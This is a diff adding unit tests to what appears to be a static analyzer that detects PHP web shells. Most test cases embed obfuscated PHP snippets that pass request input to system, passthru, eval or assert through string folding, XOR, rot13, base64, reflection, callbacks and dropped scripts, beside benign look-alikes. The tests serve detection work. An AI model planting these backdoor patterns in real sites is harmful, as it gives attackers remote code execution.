@@ -690,6 +690,237 @@ static void test_shell_spawn(void **state)
 	      "$q = proc_open(array('git', 'status'), array(), $y);");
 }
 
+/* Callbacks PHP calls for the caller: a reflection or a closure of a name,
+ * an object's __invoke, the sort of an ArrayObject, SQL functions, handlers
+ * of sessions, headers and errors, YAML tags; the callee folded or from
+ * the request. */
+static void test_callback_sinks_more(void **state)
+{
+	(void)state;
+	expect("<?php $r = new ReflectionFunction('sys' . 'tem'); $c = $r->getClosure();\n"
+	       "$c($_GET['c']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php $c = Closure::fromCallable(strrev('urhtssap')); $c($_REQUEST['q']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php class Runner { function __invoke($code) { return eval($code); } }\n"
+	       "$r = new Runner(); $r($_POST['z']);",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php $o = new ArrayObject(array($_GET['c'], 'x'));\n"
+	       "$o->uasort(str_rot13('flfgrz'));",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php $i = new ArrayIterator([$_COOKIE['k'] => 1]); $i->uksort('ass' . 'ert');",
+	       "php.obfuscated_callee", HS_SEV_HIGH);
+	expect("<?php $db = new SQLite3(':memory:'); $db->createFunction('f', 'sys' . 'tem');\n"
+	       "$db->query('SELECT f(1)');",
+	       "php.obfuscated_callee", HS_SEV_HIGH);
+	expect(
+	    "<?php $pdo = new PDO('sqlite::memory:'); $pdo->sqliteCreateFunction('f', $_GET['f']);",
+	    "php.dynamic_call_input", HS_SEV_CRITICAL);
+	expect(
+	    "<?php $x = new XSLTProcessor(); $x->registerPHPFunctions(base64_decode('c3lzdGVt'));",
+	    "php.obfuscated_callee", HS_SEV_HIGH);
+	expect("<?php $c = $_GET['c'];\n"
+	       "header_register_callback(function () use ($c) { passthru($c); });",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php $f = 'sys' . 'tem'; session_set_save_handler($f, $f, $f, $f, $f, $f);",
+	       "php.obfuscated_callee", HS_SEV_HIGH);
+	expect("<?php yaml_parse($_POST['y'], 0, $n, array('!run' => 'sys' . 'tem'));",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php set_error_handler(function ($no, $msg) { eval($msg); });\n"
+	       "trigger_error($_POST['p'], E_USER_WARNING);",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php spl_autoload_register($_GET['loader']);", "php.dynamic_call_input",
+	       HS_SEV_CRITICAL);
+	expect("<?php $l = get_defined_functions()['internal']; $l[array_search('exec', "
+	       "$l)]($_GET['c']);",
+	       "php.obfuscated_callee", HS_SEV_CRITICAL);
+	/* what applications do with the same functions */
+	quiet("<?php class Repo { function cmp($a, $b) { return $a <=> $b; }\n"
+	      "function sorted($rows) { $o = new ArrayObject($rows); $o->uasort(array($this, "
+	      "'cmp'));\n"
+	      "return $o; } }\n"
+	      "$pdo = new PDO('sqlite:/tmp/x.db');\n"
+	      "$pdo->sqliteCreateFunction('regexp', 'preg_match', 2);\n"
+	      "$pdo->sqliteCreateFunction('if', array('Repo', 'cmp'));\n"
+	      "set_error_handler(array('Repo', 'cmp')); trigger_error('deprecated', "
+	      "E_USER_DEPRECATED);\n"
+	      "$c = Closure::fromCallable('strtolower'); echo $c($_GET['q']);\n"
+	      "$x = new XSLTProcessor(); $x->registerPHPFunctions(array('date', 'ucfirst'));\n"
+	      "spl_autoload_register(function ($c) { include __DIR__ . '/lib/' . basename($c) . "
+	      "'.php'; });\n"
+	      "header_register_callback(function () { header_remove('X-Powered-By'); });");
+}
+
+/* while and do-while loops over known values run like for loops; a string
+ * written at offsets; more folding built-ins. */
+static void test_while_offsets_folds(void **state)
+{
+	(void)state;
+	expect("<?php $s = \"\\x12\\x1c\\x12\\x11\\x04\\x08\"; $k = 'ae'; $o = ''; $i = 0;\n"
+	       "while ($i < strlen($s)) { $o .= $s[$i] ^ $k[$i % 2]; $i++; } $o($_GET['c']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php $s = 'u{uvgo'; $o = ''; $i = 0;\n"
+	       "do { $o .= chr(ord($s[$i]) - 2); $i++; } while ($i < strlen($s)); $o($_POST['c']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php $f = '......'; $f[0] = 's'; $f[1] = 'y'; $f{2} = 's'; $f[3] = 't';\n"
+	       "$f[-2] = 'e'; $f[5] = 'm'; $f($_GET['c']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	/* a condition that counts is not evaluated before the first iteration */
+	expect("<?php $s = 'vkhoobh{hf'; $o = ''; $i = 0;\n"
+	       "do { $o .= chr(ord($s[$i]) - 3); } while (++$i < strlen($s)); echo $o($_GET['c']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	/* an array as a string is "Array": its letters, incremented */
+	expect("<?php $z = [] . ''; $y = $z[1]; ++$y; $k = $y . 'ystem'; $k($_GET['c']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php $_ = []; $_ = @\"$_\"; $a = $_['!' == '@']; $f = $a . 'ssert';\n"
+	       "$f($_POST['x']);",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php $f = str_pad('sys', 6, 'tem'); $f($_GET['c']);", "php.input_to_command",
+	       HS_SEV_CRITICAL);
+	expect("<?php $f = str_pad('ert', 6, 'ass', STR_PAD_LEFT); $f($_GET['c']);",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php $f = vsprintf('%s%s%s', array('pa', 'ss', 'thru')); $f($_GET['c']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php $f = 'a' . chr(ceil(114.2)) . chr(floor(115.9)) . 'ert'; $f($_POST['c']);",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php $m = array_flip(array('shell_exec' => 0)); echo $m[0]($_GET['c']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php $m = array_keys(array('exec' => 1, 'system' => 2)); $m[1]($_GET['c']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	/* hostile: endless and huge loops, far offsets, huge pads; the code
+	 * after them is still read */
+	expect("<?php $i = 0; while ($i < 100000000) { $i++; }\n"
+	       "$j = 0; while ($j < 10) { $j--; }\n"
+	       "$a = 0; do { $a++; } while ($a > 0);\n"
+	       "$s = 'abc'; $s[100000000] = 'x'; $s[-100] = 'y';\n"
+	       "$p = str_pad('a', 1000000000, 'b');\n"
+	       "eval($_POST['e']);",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	/* real loops and string edits stay quiet */
+	quiet("<?php $fp = fopen('/tmp/x', 'r');\n"
+	      "while (true) { $line = fgets($fp); if ($line === false) break; echo $line; }\n"
+	      "while ($row = $stmt->fetch()) { echo $row['name']; }\n"
+	      "$i = 0; $out = ''; while ($i < 10) { $out .= $i; $i++; } echo $out;\n"
+	      "$w = 'hello'; $w[0] = 'H'; echo $w; $n = ceil(count($_GET) / 10); echo $n;");
+}
+
+/* Command wrappers: the fallback chain of command functions, told by the
+ * check of which one is enabled; one command function alone is what
+ * system-information tools and package managers have. */
+static void test_command_wrapper_chain(void **state)
+{
+	(void)state;
+	expect(
+	    "<?php function run($c) { if (function_exists('shell_exec')) return shell_exec($c);\n"
+	    "elseif (function_exists('system')) { ob_start(); system($c); return ob_get_clean(); "
+	    "}\n"
+	    "return ''; }",
+	    "php.command_wrapper", HS_SEV_MEDIUM);
+	expect("<?php function ex($c) { foreach (array('system', 'shell_exec', 'passthru') as $f)\n"
+	       "if (is_callable($f)) return $f($c); }",
+	       "php.command_wrapper", HS_SEV_MEDIUM);
+	expect(
+	    "<?php $d = explode(',', ini_get('disable_functions'));\n"
+	    "function x($c) { global $d; if (!in_array('exec', $d)) { exec($c, $o); return $o; }\n"
+	    "return passthru($c); }",
+	    "php.command_wrapper", HS_SEV_MEDIUM);
+	quiet("<?php function run($cmd) { if (function_exists('exec')) { exec($cmd, $out, $rc);\n"
+	      "return $out; } return false; }\n"
+	      "function fixed() { if (function_exists('proc_open')) return shell_exec('uptime');\n"
+	      "return exec('uname -a'); }\n"
+	      "function two($c) { $a = shell_exec($c); exec($c, $b); return array($a, $b); }");
+}
+
+/* A default assigned in a branch that checked nothing does not replace the
+ * input (either value may reach the sink); a default after a validation
+ * does. $_SERVER taken by position holds the headers. A callee decoded with
+ * a key the analysis cannot know, called with input. */
+static void test_branch_defaults_and_unknown_keys(void **state)
+{
+	(void)state;
+	expect("<?php $c = $_POST['cmd']; if (!$c) { $c = 'ls /'; } system(\"$c 2>&1\");",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php $c = $_GET['c'] ?? ''; if ($c === '') $c = 'id'; else { echo 1; }\n"
+	       "echo shell_exec($c . ' 2>&1');",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php $m = $_REQUEST['m']; if (empty($m)) { echo 'x'; } else $m = 'phpinfo();';\n"
+	       "eval($m);",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php $a = array_values($_SERVER); system('' . $a[6]);", "php.input_to_command",
+	       HS_SEV_CRITICAL);
+	expect("<?php $k = substr(__FILE__, -5, -4); $f = base64_decode('c3lzdGVt') ^ $k;\n"
+	       "$f($_GET['c']);",
+	       "php.obfuscated_callee", HS_SEV_HIGH);
+	expect("<?php $f = str_rot13(gzinflate(base64_decode($_SERVER['SERVER_NAME'])));\n"
+	       "$f($_POST['c']);",
+	       "php.obfuscated_callee", HS_SEV_HIGH);
+	/* a by-reference parameter finishes the caller's name */
+	expect("<?php function fin(&$n, $x) { $n = $n . $x; } $f = 'sys'; fin($f, 'tem');\n"
+	       "$f($_GET['c']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	quiet(
+	    "<?php function norm(&$s) { $s = strtolower(trim($s)); } $t = 'A'; norm($t); echo $t;\n"
+	    "function reset_it(&$v) { $v = 'ls'; } $c = $_GET['c']; reset_it($c); system($c);");
+	/* a validated value with a default, a whitelist, a fixed default */
+	quiet("<?php $c = $_GET['c']; if (!preg_match('/^[a-z]+$/', $c)) { $c = 'list'; }\n"
+	      "echo shell_exec('/usr/bin/tool ' . escapeshellarg($c));\n"
+	      "$p = $_GET['p']; if (!in_array($p, array('a', 'b'))) $p = 'a';\n"
+	      "include __DIR__ . '/pages/' . $p . '.php';\n"
+	      "$mode = 'fast'; if (isset($argv[1])) { $mode = 'slow'; } exec('/usr/bin/job --' . "
+	      "$mode);\n"
+	      "$h = hash_hmac('sha256', $data, str_repeat(\"\\x36\", 64) ^ $key); echo $h;");
+}
+
+/* Input written into a program's source, then a compiler or interpreter
+ * run: the input is code, in whatever language. */
+static void test_input_script_run(void **state)
+{
+	(void)state;
+	expect("<?php $t = sys_get_temp_dir() . '/j' . uniqid() . '.py';\n"
+	       "file_put_contents($t, $_POST['src']); echo shell_exec('python3 ' . $t . ' 2>&1');",
+	       "php.input_script_run", HS_SEV_CRITICAL);
+	expect("<?php $h = $_REQUEST['h']; $code = \"use IO::Socket; connect('$h');\";\n"
+	       "$f = fopen('/dev/shm/.x.pl', 'w'); fwrite($f, $code); fclose($f);\n"
+	       "system('nohup /usr/bin/perl /dev/shm/.x.pl &');",
+	       "php.input_script_run", HS_SEV_CRITICAL);
+	expect("<?php function run($c) { return shell_exec($c . ' 2>&1'); }\n"
+	       "$n = md5(mt_rand()); file_put_contents($n . '.c', base64_decode($_POST['b']));\n"
+	       "run('gcc ' . $n . '.c -o ' . $n); run('./' . $n);",
+	       "php.input_script_run", HS_SEV_CRITICAL);
+	/* a program decoded from the file itself, dropped and run: medium */
+	expect("<?php $p = 'IyEvdXNyL2Jpbi9wZXJsCnByaW50ICJoaSI7Cg==';\n"
+	       "$h = fopen('x.pl', 'w'); fwrite($h, base64_decode($p)); fclose($h);\n"
+	       "echo shell_exec('perl x.pl');",
+	       "php.decoded_script_run", HS_SEV_MEDIUM);
+	/* a fixed script, input in a text file, a program with no file */
+	quiet("<?php file_put_contents('/tmp/build.sh', \"#!/bin/sh\\nmake all\\n\");\n"
+	      "exec('sh /tmp/build.sh');\n"
+	      "file_put_contents('/tmp/notes.txt', $_POST['note']); exec('sort /tmp/notes.txt');\n"
+	      "$v = shell_exec('php -v');");
+}
+
+/* A payload split into a thousand literal pieces joined with `.` is built
+ * whole (linear, not a copy per piece) and judged: the key from a cookie
+ * makes its create_function body input. */
+static void test_long_literal_chains(void **state)
+{
+	(void)state;
+	size_t cap = 200000, n = 0;
+	char *src = malloc(cap);
+	assert_non_null(src);
+	n += (size_t)snprintf(src + n, cap - n,
+	                      "<?php function k($d, $x) { return $d ^ str_repeat($x, "
+	                      "ceil(strlen($d) / strlen($x))); }\n$p = ''");
+	for (int i = 0; i < 2000; i++)
+		n += (size_t)snprintf(src + n, cap - n,
+		                      " .\n'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo%04d'", i);
+	snprintf(src + n, cap - n,
+	         ";\n$f = create_function('$a', k(base64_decode($p), $_COOKIE['k']) . ';');\n");
+	expect(src, "php.input_to_eval", HS_SEV_CRITICAL);
+	assert_false(res.truncated);
+	free(src);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -710,6 +941,12 @@ int main(void)
 	    cmocka_unit_test(test_fold_primitives),
 	    cmocka_unit_test(test_loops_and_increments),
 	    cmocka_unit_test(test_shell_spawn),
+	    cmocka_unit_test(test_callback_sinks_more),
+	    cmocka_unit_test(test_while_offsets_folds),
+	    cmocka_unit_test(test_command_wrapper_chain),
+	    cmocka_unit_test(test_branch_defaults_and_unknown_keys),
+	    cmocka_unit_test(test_input_script_run),
+	    cmocka_unit_test(test_long_literal_chains),
 	};
 	int r = cmocka_run_group_tests(tests, NULL, NULL);
 	php_result_free(&res);
